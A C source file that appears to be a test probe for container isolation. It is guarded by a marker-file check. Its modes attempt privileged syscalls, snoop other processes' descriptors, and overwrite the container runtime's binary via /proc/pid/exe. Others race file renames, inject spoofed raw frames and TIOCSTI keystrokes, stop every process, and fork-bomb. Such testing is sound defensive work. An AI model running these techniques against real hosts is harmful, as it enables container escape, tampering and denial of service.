// What hostile code in a container would try; static, so that it runs in any image. Each mode prints what it got.
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/fs.h>
#include <net/if.h>
#include <netpacket/packet.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static void say(const char *name, long result) { printf("%s %d\n", name, result < 0 ? errno : 0); }

static double now(void) {
  struct timespec t;
  clock_gettime(CLOCK_MONOTONIC, &t);
  return t.tv_sec + t.tv_nsec / 1e9;
}

// Numbers above 423 are the same on every architecture.
static void calls(void) {
  char area[256] = {0};
  say("mount", mount("none", "/tmp", "tmpfs", 0, 0));
  say("umount", umount2("/proc", MNT_DETACH));
  say("unshare_user", unshare(CLONE_NEWUSER));
  say("unshare_net", unshare(CLONE_NEWNET));
  say("setns", setns(open("/proc/self/ns/net", O_RDONLY), 0));
  say("clone_newuser", syscall(SYS_clone, CLONE_NEWUSER | 17, 0, 0, 0, 0));
  say("clone3", syscall(435, area, 88));
  say("keyctl", syscall(SYS_keyctl, 0, -3, 0));
  say("add_key", syscall(SYS_add_key, "user", "x", "y", 1, -2));
  say("request_key", syscall(SYS_request_key, "user", "x", 0, 0));
  say("bpf", syscall(SYS_bpf, 0, area, sizeof area));
  say("perf_event_open", syscall(SYS_perf_event_open, area, 0, -1, -1, 0));
  say("userfaultfd", syscall(SYS_userfaultfd, 0));
  say("io_uring_setup", syscall(425, 1, area));
  say("io_uring_enter", syscall(426, -1, 0, 0, 0, 0, 0));
  say("io_uring_register", syscall(427, -1, 0, 0, 0));
  say("fsopen", syscall(430, "tmpfs", 0));
  say("open_tree", syscall(428, AT_FDCWD, "/", 1));
  say("move_mount", syscall(429, -1, "", -1, "", 0));
  say("mount_setattr", syscall(442, -1, "", 0, 0, 0));
  say("open_by_handle_at", syscall(SYS_open_by_handle_at, AT_FDCWD, area, 0));
  say("pivot_root", syscall(SYS_pivot_root, "/", "/"));
  say("reboot", syscall(SYS_reboot, 0, 0, 0, 0));
  say("kexec_load", syscall(SYS_kexec_load, 0, 0, 0, 0));
  say("init_module", syscall(SYS_init_module, area, 0, ""));
  say("delete_module", syscall(SYS_delete_module, "x", 0));
  say("swapon", syscall(SYS_swapon, "/x", 0));
  say("settimeofday", syscall(SYS_settimeofday, area, 0));
  say("acct", syscall(SYS_acct, "/x"));
  say("quotactl", syscall(SYS_quotactl, 0, 0, 0, 0));
  say("syslog", syscall(SYS_syslog, 3, area, 10));
  say("personality", syscall(SYS_personality, 0x0040000));
  say("vsock", socket(40, SOCK_STREAM, 0));
  say("packet", socket(AF_PACKET, SOCK_RAW, 0));
  say("inet", socket(AF_INET, SOCK_STREAM, 0));
}

static void descriptors(void) {
  for (int fd = 0; fd < 65536; ++fd) {
    char path[64], target[512] = {0};
    if (fcntl(fd, F_GETFD) < 0) continue;
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    if (readlink(path, target, sizeof target - 1) < 0) strcpy(target, "?");
    printf("%d %s\n", fd, target);
  }
}

// Every descriptor of every process that can be seen, for `seconds`; what is nobody's in here is printed once each.
static void spy(double seconds) {
  static char known[4096][96];
  int count = 0;
  for (double end = now() + seconds; now() < end;) {
    DIR *processes = opendir("/proc");
    for (struct dirent *p; (p = readdir(processes));) {
      char folder[300];
      if (p->d_name[0] < '0' || p->d_name[0] > '9') continue;
      snprintf(folder, sizeof folder, "/proc/%s/fd", p->d_name);
      DIR *fds = opendir(folder);
      if (!fds) continue;
      for (struct dirent *f; (f = readdir(fds));) {
        char path[700], target[96] = {0};
        snprintf(path, sizeof path, "%s/%s", folder, f->d_name);
        if (f->d_name[0] == '.' || readlink(path, target, sizeof target - 1) < 0) continue;
        int i = 0;
        while (i < count && strcmp(known[i], target) != 0) ++i;
        if (i < count || count == 4096) continue;
        strcpy(known[count++], target);
        printf("%s\n", target);
      }
      closedir(fds);
    }
    closedir(processes);
  }
}

// The runtime's own program, held by O_PATH while it is the image of a process, written as soon as it is not.
static void overwrite(double seconds) {
  char own[512] = {0};
  (void)!readlink("/proc/self/exe", own, sizeof own - 1);
  long opened = 0, written = 0;
  for (double end = now() + seconds; now() < end;) {
    DIR *processes = opendir("/proc");
    for (struct dirent *p; (p = readdir(processes));) {
      char path[300], again[64];
      if (p->d_name[0] < '0' || p->d_name[0] > '9') continue;
      snprintf(path, sizeof path, "/proc/%s/exe", p->d_name);
      int held = open(path, O_PATH | O_CLOEXEC);
      if (held < 0) continue;
      if (opened++ == 0) printf("opened\n");
      snprintf(again, sizeof again, "/proc/self/fd/%d", held);
      char target[512] = {0};
      (void)!readlink(again, target, sizeof target - 1);
      for (int i = 0; strncmp(target, "/bin/", 5) != 0 && i < 200; ++i) {
        int fd = open(again, O_WRONLY | O_CLOEXEC);
        if (fd < 0) continue;
        if (write(fd, "#!evil\n", 7) == 7) { ++written; printf("WRITTEN %s\n", target); }
        close(fd);
      }
      close(held);
    }
    closedir(processes);
  }
  printf("written %ld\n", written);
}

// Exchanges two names as fast as it can.
static void swap(const char *a, const char *b, double seconds) {
  for (double end = now() + seconds; now() < end;)
    for (int i = 0; i < 1000; ++i) syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE);
}

// Sends each frame, given in hexadecimal, five times, from any address it says.
static void frames(const char *interface, char **texts) {
  int out = socket(AF_PACKET, SOCK_RAW, htons(3));
  struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_ifindex = (int)if_nametoindex(interface)};
  for (; *texts; ++texts) {
    unsigned char frame[1600] = {0};
    int size = 0;
    while (sscanf(*texts + 2 * size, "%2hhx", frame + size) == 1) ++size;
    for (int i = 0; i < 5; ++i) say("frame", sendto(out, frame, size < 60 ? 60 : size, 0, (void *)&to, sizeof to));
  }
}

// Prints the sender and the text of each datagram that comes to `port`.
static void hear(int port, double seconds) {
  int in = socket(AF_INET, SOCK_DGRAM, 0);
  struct sockaddr_in at = {.sin_family = AF_INET, .sin_port = htons(port)};
  struct timeval patience = {1, 0};
  if (bind(in, (void *)&at, sizeof at) < 0) return say("bind", -1);
  setsockopt(in, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof patience);
  printf("hears\n");
  for (double end = now() + seconds; now() < end;) {
    char text[100] = {0};
    socklen_t size = sizeof at;
    if (recvfrom(in, text, sizeof text - 1, 0, (void *)&at, &size) > 0) printf("%s %s\n", inet_ntoa(at.sin_addr), text);
  }
}

static void device(const char *kind, int major, int minor) {
  const char *path = "/tmp/probe-device";
  unlink(path);
  say("mknod", mknod(path, (*kind == 'b' ? S_IFBLK : S_IFCHR) | 0666, (dev_t)(major << 8 | minor)));
  say("open", open(path, O_RDONLY));
  unlink(path);
}

// Every process that comes into the namespace.
static void stopNewcomers(double seconds) {
  for (double end = now() + seconds; now() < end;)
    for (int i = 0; i < 200; ++i) kill(-1, SIGSTOP);
}

int main(int argc, char **argv) {
  const char *mode = argc > 1 ? argv[1] : "";
  // Some modes would harm a host: only an image that was made for them has this file.
  if (access("/image-of-the-probe", F_OK) != 0) {
    fprintf(stderr, "probe: this is no container made for it\n");
    return 65;
  }
  setvbuf(stdout, 0, _IOLBF, 0);
  if (!strcmp(mode, "calls")) calls();
  else if (!strcmp(mode, "fds")) descriptors();
  else if (!strcmp(mode, "spy")) spy(atof(argv[2]));
  else if (!strcmp(mode, "overwrite")) overwrite(atof(argv[2]));
  else if (!strcmp(mode, "swap")) swap(argv[2], argv[3], atof(argv[4]));
  else if (!strcmp(mode, "device")) device(argv[2], atoi(argv[3]), atoi(argv[4]));
  else if (!strcmp(mode, "frames")) frames(argv[2], argv + 3);
  else if (!strcmp(mode, "hear")) hear(atoi(argv[2]), atof(argv[3]));
  else if (!strcmp(mode, "stop")) stopNewcomers(atof(argv[2]));
  else if (!strcmp(mode, "ids")) printf("%d %d\n", (int)getuid(), (int)geteuid());
  else if (!strcmp(mode, "tiocsti")) for (const char *c = "id\n"; *c; ++c) say("tiocsti", ioctl(0, TIOCSTI, c));
  else if (!strcmp(mode, "forks")) {
    int made = 0;
    for (int i = 0; i < 3000; ++i) {
      pid_t child = fork();
      if (child == 0) { pause(); _exit(0); }
      if (child > 0) ++made;
    }
    printf("made %d\n", made);
    pause();
  } else return 64;
  return 0;
}
